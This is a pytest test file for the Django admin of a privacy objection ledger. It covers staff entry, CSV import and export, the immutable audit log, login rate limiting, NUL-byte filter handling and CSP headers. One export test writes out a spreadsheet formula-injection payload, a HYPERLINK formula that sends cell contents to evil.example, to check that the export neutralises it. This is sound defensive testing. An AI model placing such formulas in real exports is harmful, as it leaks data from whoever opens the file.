"""Privacy staff's tools on the ledger: staff entry, import, export, the audit log, login limits."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import Group, User
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from optout.models import AuditEntry, ObjectionEvent, ObjectionState
from optout.services import objection_record

pytestmark = pytest.mark.django_db


def _member(client, group: str, username: str) -> User:
    user = User.objects.create_user(username, f"{username}@example.org", "pw", is_staff=True)
    user.groups.add(Group.objects.get(name=group))
    client.force_login(user)
    return user


@pytest.fixture
def staff(client):
    return _member(client, "Privacy staff", "sam")


@pytest.fixture
def viewer(client):
    return _member(client, "Privacy viewer", "val")


def test_it_records_an_objection_received_by_letter_with_the_staff_member_and_an_audit_line(client, staff, purpose):
    response = client.post(
        reverse("admin:optout_objectionevent_record"),
        {
            "subject_id": "letter-writer",
            "purpose": "ai-training",
            "received_on": "2025-05-02",
            "channel": "letter",
            "email": "",
            "note": "Letter dated 30 April",
        },
        follow=True,
    )

    event = ObjectionEvent.objects.get(subject_id="letter-writer")
    assert (event.source, event.staff_user, event.reason) == ("staff-entry", "sam", "Letter dated 30 April")
    assert event.received_at.isoformat() == "2025-05-02T00:00:00+00:00"
    assert f"Receipt number: {event.receipt}" in response.content.decode()
    entry = AuditEntry.objects.get()
    assert (entry.username, entry.action, entry.target) == ("sam", "staff-entry", "letter-writer")
    assert entry.details == {"receipt": event.receipt, "channel": "letter", "new": True}


def test_after_recording_it_lists_that_subject_even_with_url_characters_in_its_id(client, staff, purpose):
    response = client.post(
        reverse("admin:optout_objectionevent_record"),
        {"subject_id": "a&b#c 100%", "purpose": "ai-training", "received_on": "2025-05-02", "channel": "letter",
         "email": "", "note": ""},
        follow=True,
    )  # fmt: skip

    assert response.redirect_chain[-1][0].endswith("?subject_id=a%26b%23c+100%25")
    listed = response.context["cl"].result_list
    assert [event.subject_id for event in listed] == ["a&b#c 100%"]


def test_a_day_in_the_future_is_refused_and_records_nothing(client, staff, purpose):
    response = client.post(
        reverse("admin:optout_objectionevent_record"),
        {"subject_id": "x", "purpose": "ai-training", "received_on": "2999-01-01", "channel": "email"},
    )

    assert response.status_code == 400
    assert "cannot be in the future" in response.content.decode()
    assert not ObjectionEvent.objects.exists() and not AuditEntry.objects.exists()


def test_a_viewer_can_read_but_cannot_record_import_or_export(client, viewer, purpose):
    assert client.get(reverse("admin:optout_objectionevent_changelist")).status_code == 200
    for name in ("record", "import", "export"):
        assert client.get(reverse(f"admin:optout_objectionevent_{name}")).status_code == 403
    response = client.post(
        reverse("admin:optout_objectionevent_record"),
        {"subject_id": "x", "purpose": "ai-training", "received_on": "2025-01-01", "channel": "email"},
    )
    assert response.status_code == 403 and not ObjectionEvent.objects.exists()


def test_it_imports_a_file_uploaded_in_the_admin(client, staff, purpose):
    upload = SimpleUploadedFile(
        "past.csv", b"subject_id,purpose,received_at,source\nold-1,ai-training,2024-03-01,web-form\n", "text/csv"
    )

    response = client.post(reverse("admin:optout_objectionevent_import"), {"file": upload}, follow=True)

    assert "1 rows read: 1 objections imported, 0 already recorded, 0 duplicates in the file." in (
        response.content.decode()
    )
    assert ObjectionState.objects.get(subject_id="old-1").objected
    assert AuditEntry.objects.get().action == "import"


def test_the_import_and_its_audit_line_commit_together(client, staff, purpose, monkeypatch):
    def audit_fails(**kwargs):
        raise RuntimeError("the audit log is unavailable")

    monkeypatch.setattr("optout.admin_views.audit_record", audit_fails)
    upload = SimpleUploadedFile(
        "past.csv", b"subject_id,purpose,received_at,source\nold-1,ai-training,2024-03-01,web-form\n", "text/csv"
    )
    with pytest.raises(RuntimeError):
        client.post(reverse("admin:optout_objectionevent_import"), {"file": upload})
    assert not ObjectionEvent.objects.exists() and not ObjectionState.objects.exists()


def test_a_bad_upload_lists_its_lines_and_imports_nothing(client, staff, purpose):
    upload = SimpleUploadedFile(
        "bad.csv",
        b"subject_id,purpose,received_at,source\nok,ai-training,2024-03-01,web-form\nbad,ai-training,yesterday,web-form\n",
        "text/csv",
    )

    response = client.post(reverse("admin:optout_objectionevent_import"), {"file": upload})

    assert response.status_code == 400
    page = response.content.decode()
    assert "line 3: received_at &#x27;yesterday&#x27; is not an ISO 8601 date" in page
    assert not ObjectionEvent.objects.exists() and not AuditEntry.objects.exists()


def test_it_exports_the_filtered_events_as_csv_and_logs_the_export(client, staff, purpose):
    objection_record(subject_id="a", source="gpc")
    objection_record(subject_id="b", source="in-app")

    response = client.get(reverse("admin:optout_objectionevent_export"), {"source__exact": "gpc"})

    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:3] == ["receipt", "subject_id", "purpose"]
    assert [row[1] for row in rows[1:]] == ["a"]
    assert rows[1][0] == ObjectionEvent.objects.get(subject_id="a").receipt
    assert AuditEntry.objects.get().action == "export"


def test_the_export_keeps_a_subject_id_that_looks_like_a_formula_as_text(client, staff, purpose):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    objection_record(subject_id=formula, source="api")
    objection_record(subject_id="-1", source="api")
    objection_record(subject_id="plain", source="api")

    response = client.get(reverse("admin:optout_objectionevent_export"))

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row[1] for row in rows[1:]) == ["'-1", "'" + formula, "plain"]


def test_the_audit_log_is_readable_and_not_editable(client, staff):
    AuditEntry.objects.create(username="someone", action="launch", target="Campaign 1")
    entry = AuditEntry.objects.get()

    assert client.get(reverse("admin:optout_auditentry_changelist")).status_code == 200
    assert client.get(reverse("admin:optout_auditentry_add")).status_code == 403
    assert client.post(reverse("admin:optout_auditentry_change", args=[entry.pk]), {"target": "x"}).status_code == 403
    assert client.post(reverse("admin:optout_auditentry_delete", args=[entry.pk]), {"post": "yes"}).status_code == 403
    entry.refresh_from_db()
    assert entry.target == "Campaign 1"


def test_a_state_row_links_to_the_subjects_full_history(client, staff, purpose):
    objection_record(subject_id="h-1", source="api")

    page = client.get(reverse("admin:optout_objectionstate_changelist")).content.decode()
    history = client.get(reverse("admin:optout_objectionevent_changelist"), {"subject_id": "h-1"})

    assert "subject_id=h-1" in page
    assert history.status_code == 200 and "h-1" in history.content.decode()


def test_admin_login_is_refused_after_too_many_attempts(client):
    cache.clear()
    User.objects.create_user("target", password="right-password", is_staff=True)
    url = reverse("admin:login")
    statuses = [client.post(url, {"username": "target", "password": f"wrong-{n}"}).status_code for n in range(6)]

    assert statuses[:5] == [200] * 5 and statuses[5] == 429
    # Even the right password is refused while the limit holds.
    assert client.post(url, {"username": "target", "password": "right-password"}).status_code == 429
    cache.clear()


@pytest.mark.parametrize(
    "url",
    [
        "/admin/campaigns/recipient/?language=%00",
        "/admin/optout/objectionevent/?subject_id=%00",
        "/admin/optout/objectionstate/?q=a%00b",
    ],
)
def test_a_nul_in_an_admin_filter_or_search_is_the_invalid_filter_page_not_a_500(admin_client, purpose, url):
    objection_record(subject_id="someone", source="api")

    response = admin_client.get(url)

    path = url.split("?")[0]
    assert response.status_code == 302 and response["Location"] == f"{path}?e=1"
    assert admin_client.get(response["Location"]).status_code == 200


def test_admin_pages_run_under_a_csp_with_their_own_scripts_and_no_inline_code(client, admin_client, purpose):
    def policy(response) -> dict[str, list[str]]:
        header = response["Content-Security-Policy"]
        return {part.split()[0]: part.split()[1:] for part in header.split(";") if part.strip()}

    login = policy(client.get("/admin/login/"))
    changelist = policy(admin_client.get(reverse("admin:optout_objectionevent_changelist")))

    for directives in (login, changelist):
        assert directives["default-src"] == ["'none'"]
        assert directives["script-src"] == ["'self'"] and directives["style-src"] == ["'self'"]
        assert directives["frame-ancestors"] == ["'none'"]
        assert not any("unsafe" in source for sources in directives.values() for source in sources)
